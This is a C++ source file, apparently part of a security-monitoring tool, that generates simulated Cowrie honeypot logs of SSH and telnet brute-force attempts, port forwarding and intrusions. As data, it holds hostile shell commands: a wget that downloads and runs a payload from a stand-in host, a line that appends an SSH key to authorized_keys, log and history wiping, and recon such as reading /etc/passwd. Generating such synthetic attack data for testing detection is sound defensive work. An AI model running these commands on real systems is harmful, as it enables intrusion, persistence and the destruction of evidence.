#include "simulate/honeypot.h"

#include "base/json_writer.h"
#include "simulate/words.h"

namespace vedette::simulate {
namespace {

using namespace std::chrono_literals;

constexpr std::string_view kSensor = "hive-1";
constexpr std::string_view kHoneypotIp = "192.0.2.230";

constexpr std::array<Word, 5> kClients{"SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0",
                                       "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY",
                                       "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"};
constexpr std::array<Word, 10> kLookRound{"uname -a",
                                          "cat /proc/cpuinfo | grep name | wc -l",
                                          "free -m | grep Mem | awk '{print $2}'",
                                          "w",
                                          "id; whoami",
                                          "crontab -l",
                                          "ls -lh $(which ls)",
                                          "cat /etc/passwd",
                                          "lspci | grep -i vga",
                                          "nproc"};
constexpr std::array<Word, 6> kHide{"history -c",
                                    "unset HISTFILE",
                                    "rm -rf /var/log/wtmp /var/log/lastlog",
                                    "export HISTFILE=/dev/null",
                                    "cat /dev/null > ~/.bash_history",
                                    "chattr -ia ~/.ssh/authorized_keys"};
constexpr std::array<Word, 4> kUnknown{"enable", "system", "linuxshell", "/ip cloud print"};
constexpr std::array<Word, 4> kFiles{"bins/x86", "bins/arm7", "k/r.sh", "m/xm.tgz"};

std::string hex(Random& random, std::size_t digits) {
  static constexpr std::string_view kHex = "0123456789abcdef";
  std::string text;
  for (std::size_t i = 0; i < digits; ++i) text += kHex[random.below(16)];
  return text;
}

/// One session: its events carry the same id, and its last one tells how long it was.
class CowrieSession {
 public:
  CowrieSession(Script& script, const Peer& peer, Attack attack, bool telnet)
      : script_(script), peer_(peer), attack_(attack), telnet_(telnet), opened_(script.at) {
    id_ = hex(script.random, 12);
    const std::uint32_t port = script.random.between(32'768, 60'999);
    const std::uint32_t own_port = telnet ? 2223 : 2222;
    event("cowrie.session.connect", Action::HoneypotConnected,
          fmt::format("New connection: {}:{} ({}:{}) [session: {}]", peer.text, port, kHoneypotIp,
                      own_port, id_),
          [&](JsonWriter& json) {
            json.field("src_port", port).field("dst_ip", kHoneypotIp).field("dst_port", own_port);
            json.field("protocol", telnet_ ? "telnet" : "ssh");
          });
  }

  void introduce(std::string_view version) {
    if (telnet_) return;
    script_.wait(30ms, 300ms);
    event("cowrie.client.version", Action::HoneypotClient,
          fmt::format("Remote SSH version: {}", version),
          [&](JsonWriter& json) { json.field("version", version); });
    script_.wait(5ms, 40ms);
    const std::string hassh = hex(script_.random, 32);
    event("cowrie.client.kex", Action::HoneypotClient,
          fmt::format("SSH client hassh fingerprint: {}", hassh), [&](JsonWriter& json) {
            json.field("hassh", hassh);
            json.key("kexAlgs")
                .begin_array()
                .string("curve25519-sha256")
                .string("ecdh-sha2-nistp256");
            json.end_array().key("encCS").begin_array().string("aes128-ctr").string("aes256-ctr");
            json.end_array();
          });
  }

  void log_in(std::string_view user, std::string_view password, bool succeeds) {
    script_.wait(300ms, 3s);
    event(
        succeeds ? "cowrie.login.success" : "cowrie.login.failed",
        succeeds ? Action::HoneypotLoginSucceeded : Action::HoneypotLoginFailed,
        fmt::format("login attempt [{}/{}] {}", user, password, succeeds ? "succeeded" : "failed"),
        [&](JsonWriter& json) { json.field("username", user).field("password", password); });
  }

  void type(std::string_view command, bool known = true) {
    script_.wait(200ms, 6s);
    event("cowrie.command.input", Action::HoneypotCommand, fmt::format("CMD: {}", command),
          [&](JsonWriter& json) { json.field("input", command); });
    if (known) return;
    event("cowrie.command.failed", Action::HoneypotCommandUnknown,
          fmt::format("Command not found: {}", command),
          [&](JsonWriter& json) { json.field("input", command); });
  }

  void download(std::string_view url) {
    script_.wait(500ms, 8s);
    const std::string hash = hex(script_.random, 64);
    const std::string file = "var/lib/cowrie/downloads/" + hash;
    event("cowrie.session.file_download", Action::HoneypotDownload,
          fmt::format("Downloaded URL ({}) with SHA-256 {} to {}", url, hash, file),
          [&](JsonWriter& json) {
            json.field("url", url).field("outfile", file).field("shasum", hash);
          });
  }

  void forward(std::string_view ip, std::uint32_t port) {
    script_.wait(300ms, 4s);
    event("cowrie.direct-tcpip.request", Action::HoneypotForward,
          fmt::format("direct-tcp connection request to {}:{} from 127.0.0.1:22", ip, port),
          [&](JsonWriter& json) {
            json.field("dst_ip", ip).field("dst_port", port).field("src_port", 22);
          });
  }

  void close() {
    script_.wait(100ms, 4s);
    const double seconds = static_cast<double>((script_.at - opened_).count() / 1000) / 1e6;
    event("cowrie.session.closed", Action::HoneypotClosed,
          fmt::format("Connection lost after {} seconds", static_cast<int>(seconds)),
          [&](JsonWriter& json) { json.key("duration").real(seconds); });
  }

 private:
  template <typename Fields>
  void event(std::string_view id, Action action, std::string_view message, const Fields& fields) {
    Stage& stage = script_.stage;
    if (!stage.wants(Stream::Cowrie)) return;
    std::string& out =
        stage.open(Stream::Cowrie, script_.at, {action, peer_.source, Subject::None, attack_, 1});
    stamp_.clear();
    stage.stamp().append_cowrie(stamp_, script_.at);
    JsonWriter json(out);
    json.begin_object().field("eventid", id).field("src_ip", peer_.text).field("session", id_);
    fields(json);
    json.field("message", message).field("sensor", kSensor).field("timestamp", stamp_);
    json.end_object();
  }

  Script& script_;
  const Peer& peer_;
  Attack attack_;
  bool telnet_;
  Time opened_;
  std::string id_, stamp_;
};

class HoneypotAttacker final : public Actor {
 public:
  HoneypotAttacker(Scene& scene, std::uint64_t seed, Attack attack)
      : Actor(scene, seed), attack_(attack), peer_(Peer::attacker(scene)) {
    client_ = pick(random_, kClients);
    telnet_ = random_.below(4) == 0;
    switch (attack) {
      case Attack::HoneypotScan:
        left_ = random_.between(1, 4);
        break;
      case Attack::HoneypotBruteForce:
        left_ = how_many(random_, 6);
        break;
      default:
        left_ = random_.between(1, 3);
        break;
    }
  }

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    CowrieSession session(script, peer_, attack_, telnet_);
    if (attack_ != Attack::HoneypotScan || random_.below(2) == 0) session.introduce(client_);
    switch (attack_) {
      case Attack::HoneypotScan:
        break;
      case Attack::HoneypotBruteForce:
        guess(session);
        break;
      case Attack::HoneypotForward:
        forward(session);
        break;
      default:
        intrude(session);
        break;
    }
    session.close();
    if (--left_ == 0) return {};
    return script.at + span_between(random_, 2s, 90s);
  }

 private:
  std::string_view user() { return random_.below(3) > 0 ? "root" : pick(random_, kGuessedNames); }

  void guess(CowrieSession& session) {
    const std::uint32_t attempts = random_.between(1, 5);
    for (std::uint32_t i = 0; i < attempts; ++i) {
      const std::string_view name = user();
      session.log_in(name, pick(random_, kPasswords), false);
    }
  }

  void forward(CowrieSession& session) {
    session.log_in("root", pick(random_, kPasswords), true);
    const std::uint32_t requests = random_.between(2, 8);
    for (std::uint32_t i = 0; i < requests; ++i) {
      const std::string target = fmt::format("198.51.100.{}", random_.between(1, 254));
      session.forward(target, random_.below(2) == 0 ? 80 : 443);
    }
  }

  void intrude(CowrieSession& session) {
    if (random_.below(2) == 0) session.log_in("root", pick(random_, kPasswords), false);
    session.log_in("root", pick(random_, kPasswords), true);
    if (telnet_) session.type(pick(random_, kUnknown), false);
    const std::uint32_t looks = random_.between(2, 6);
    for (std::uint32_t i = 0; i < looks; ++i) session.type(pick(random_, kLookRound));
    const std::string_view file = pick(random_, kFiles);
    const std::string url = fmt::format("http://198.51.100.77/{}", file);
    session.type(fmt::format("cd /tmp; wget {} -O .x; chmod 777 .x; ./.x", url));
    if (random_.below(100) < 70) session.download(url);
    if (random_.below(2) == 0) {
      session.type(
          "mkdir -p ~/.ssh; echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ "
          "sim@example.net >> ~/.ssh/authorized_keys");
    }
    session.type(pick(random_, kHide));
  }

  Attack attack_;
  Peer peer_;
  std::string_view client_;
  bool telnet_;
  std::uint32_t left_ = 0;
};

/// Types, mistypes, reads what comes back, and thinks.
class Operator final : public Actor {
 public:
  Operator(Scene& scene, std::uint64_t seed)
      : Actor(scene, seed), peer_(Peer::attacker(scene)), visits_(random_.between(2, 3)) {}

  std::optional<Time> act(Time now) override {
    Script script{scene_.stage, random_, now};
    CowrieSession session(script, peer_, Attack::HoneypotOperator, false);
    session.introduce("SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5");
    if (!been_here_) session.log_in("root", "admin", false);
    session.log_in("root", "root", true);
    been_here_ = true;
    const std::uint32_t commands = random_.between(14, 34);
    for (std::uint32_t i = 0; i < commands; ++i) {
      script.wait(2s, 25s);
      if (random_.below(6) == 0) script.wait(30s, 240s);
      if (random_.below(8) == 0) session.type(pick(random_, kMistyped), false);
      session.type(pick(random_, kTyped));
    }
    session.close();
    if (--visits_ == 0) return {};
    return script.at + span_between(random_, 20min, 9h);
  }

 private:
  static constexpr std::array<Word, 24> kTyped{"ls",
                                               "ls -la",
                                               "pwd",
                                               "cd ..",
                                               "cd /home",
                                               "cd /var/www",
                                               "cat hosts",
                                               "ifconfig",
                                               "ip a",
                                               "netstat -an",
                                               "ps aux",
                                               "who",
                                               "df -h",
                                               "mount",
                                               "cat .bash_history",
                                               "cd /opt",
                                               "ls -la /opt",
                                               "cat /etc/issue",
                                               "date",
                                               "uptime",
                                               "env",
                                               "which python3",
                                               "cat /etc/hosts",
                                               "exit"};
  static constexpr std::array<Word, 6> kMistyped{"sl",     "cd..",      "ls-la",
                                                 "whoiam", "cta hosts", "pdw"};

  Peer peer_;
  std::uint32_t visits_;
  bool been_here_ = false;
};

}  // namespace

std::unique_ptr<Actor> make_honeypot_attacker(Attack attack, Scene& scene, std::uint64_t seed) {
  if (describe(attack).stream != Stream::Cowrie) return nullptr;
  if (attack == Attack::HoneypotOperator) return std::make_unique<Operator>(scene, seed);
  return std::make_unique<HoneypotAttacker>(scene, seed, attack);
}

}  // namespace vedette::simulate
